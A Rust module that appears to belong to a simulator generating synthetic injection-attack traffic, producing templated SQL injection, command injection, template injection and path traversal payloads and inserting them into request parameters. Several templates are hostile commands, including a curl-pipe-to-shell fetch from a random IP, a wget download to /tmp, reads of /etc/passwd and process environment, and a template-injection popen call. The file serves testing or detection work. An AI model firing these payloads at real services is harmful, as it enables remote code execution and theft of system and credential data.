//! Attack payload templates and where they go in a request.
//!
//! A spray is one template (picked per attack) filled with varying values — numbers,
//! the benign value it is appended to, depths, hosts — so no constant string marks
//! it, while its `payload_shape` stays one group. Templates follow how each family
//! works (see PayloadsAllTheThings for the families); they are written here, not
//! copied.

use serde_json::Value;

use crate::simulate::invocation::{encode, Invocation};
use crate::simulate::rng::Rng;
use crate::simulate::world::Route;

/// An injection family.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Family {
    Sqli,
    Cmdi,
    Ssti,
    Traversal,
}

/// One template of one family.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Template {
    pub family: Family,
    pub idx: usize,
}

impl Template {
    /// A template drawn from the seed.
    pub fn pick(r: &mut Rng) -> Template {
        let family = *r.pick(&[Family::Sqli, Family::Cmdi, Family::Ssti, Family::Traversal]);
        Template {
            family,
            idx: r.below(5),
        }
    }

    /// The template filled with fresh values, appended to `base` where it makes sense.
    pub fn render(&self, r: &mut Rng, base: &str) -> String {
        let n = r.range(1, 99);
        let m = r.range(2, 9);
        let host = format!(
            "{}.{}",
            r.lower(6),
            r.pick(&[
                "oast.fun",
                "interact.sh",
                "requestcatcher.com",
                "burpcollaborator.net"
            ])
        );
        let ip = format!(
            "{}.{}.{}.{}",
            r.range(45, 210),
            r.range(1, 254),
            r.range(1, 254),
            r.range(1, 254)
        );
        match (self.family, self.idx) {
            (Family::Sqli, 0) => format!("{base}' OR '{n}'='{n}"),
            (Family::Sqli, 1) => format!(
                "{base}' UNION SELECT {}--",
                vec!["NULL"; m as usize].join(",")
            ),
            (Family::Sqli, 2) => format!("{base}' AND SLEEP({m})-- -"),
            (Family::Sqli, 3) => format!("{base}'; WAITFOR DELAY '0:0:{m}'--"),
            (Family::Sqli, _) => format!("{base}' AND (SELECT {n} FROM (SELECT(SLEEP({m})))x)-- "),
            (Family::Cmdi, 0) => format!("{base}; cat /etc/passwd"),
            (Family::Cmdi, 1) => format!("{base} | nslookup {n}.{host}"),
            (Family::Cmdi, 2) => format!("$(curl -s http://{ip}/{}.sh | sh)", r.lower(5)),
            (Family::Cmdi, 3) => format!("{base}`sleep {m}`"),
            (Family::Cmdi, _) => format!(
                "{base} && wget http://{ip}:{}/{} -O /tmp/{}",
                r.range(1024, 9999),
                r.lower(6),
                r.lower(4)
            ),
            (Family::Ssti, 0) => format!("{{{{{n}*{m}}}}}"),
            (Family::Ssti, 1) => format!("${{{n}*{m}}}"),
            (Family::Ssti, 2) => format!("<%= {n}*{m} %>"),
            (Family::Ssti, 3) => format!(
                "{{{{ cycler.__init__.__globals__.os.popen('{}').read() }}}}",
                r.pick(&["id", "whoami", "env", "uname -a"])
            ),
            (Family::Ssti, _) => format!("#{{{n}*{m}}}"),
            (Family::Traversal, 0) => format!("{}etc/passwd", "../".repeat(m as usize)),
            (Family::Traversal, 1) => format!("{}etc%2fpasswd", "..%2f".repeat(m as usize)),
            (Family::Traversal, 2) => format!("{}etc/passwd", "....//".repeat(m as usize)),
            (Family::Traversal, 3) => format!("{}proc/self/environ", "../".repeat(m as usize)),
            (Family::Traversal, _) => {
                format!("{}var/task/index.js", "%2e%2e%2f".repeat(m as usize))
            }
        }
    }

    /// The status the function answers an attempt with.
    pub fn status(&self, r: &mut Rng) -> u16 {
        let x = r.f();
        match self.family {
            Family::Sqli if x < 0.25 => 500,
            Family::Traversal if x < 0.5 => 404,
            Family::Ssti if x < 0.15 => 500,
            _ if x < 0.45 => 400,
            _ => 200,
        }
    }
}

/// How a value is carried.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Carrier {
    /// As the route's natural parameter (query, path segment or JSON field).
    Plain,
    /// The JSON body sent base64-encoded (`isBase64Encoded`).
    Base64Body,
}

/// Puts `value` where `route` takes user input, in `inv`.
pub(crate) fn inject(inv: &mut Invocation, route: Route, value: &str, carrier: Carrier) {
    let set_query = |inv: &mut Invocation, key: &str| {
        inv.query.retain(|(k, _)| k != key);
        inv.query.insert(0, (key.to_string(), value.to_string()));
    };
    match route {
        Route::Search => set_query(inv, "q"),
        Route::OrdersList => set_query(inv, "status"),
        Route::Report => set_query(inv, "format"),
        Route::OrderGet | Route::ProductGet | Route::Proxy => {
            let cut = inv.path.rfind('/').unwrap_or(0);
            inv.path = format!("{}/{}", &inv.path[..cut], encode(value));
        }
        _ => {
            let mut body: Value = inv
                .body
                .as_deref()
                .and_then(|b| serde_json::from_str(b).ok())
                .unwrap_or_else(|| Value::Object(Default::default()));
            let field = match route {
                Route::Login => "username",
                Route::Profile => "displayName",
                Route::OrderCreate => "note",
                _ => "q",
            };
            if route == Route::GraphQl {
                body["variables"]["id"] = Value::String(value.to_string());
            } else {
                body[field] = Value::String(value.to_string());
            }
            if inv.method == "GET" {
                inv.method = "POST".into();
            }
            inv.body = Some(body.to_string());
            if !inv.headers.iter().any(|(k, _)| k == "content-type") {
                inv.headers
                    .push(("content-type".into(), "application/json".into()));
            }
        }
    }
    if carrier == Carrier::Base64Body {
        if let Some(b) = &inv.body {
            use base64::Engine;
            inv.body = Some(base64::engine::general_purpose::STANDARD.encode(b));
            inv.b64 = true;
        }
    }
}

/// The benign value a template is appended to, for `route`.
pub(crate) fn base_value(r: &mut Rng, route: Route) -> String {
    match route {
        Route::Search => r.pick(crate::simulate::catalog::SEARCH_TERMS).to_string(),
        Route::OrdersList => r.pick(&["open", "shipped"]).to_string(),
        Route::OrderGet | Route::Proxy => r.range(100_000, 999_999).to_string(),
        Route::ProductGet => format!("MUG-{}", r.range(100, 999)),
        Route::Login => format!("{}@{}", r.lower(7), r.pick(&["gmail.com", "outlook.com"])),
        _ => r.lower(6),
    }
}
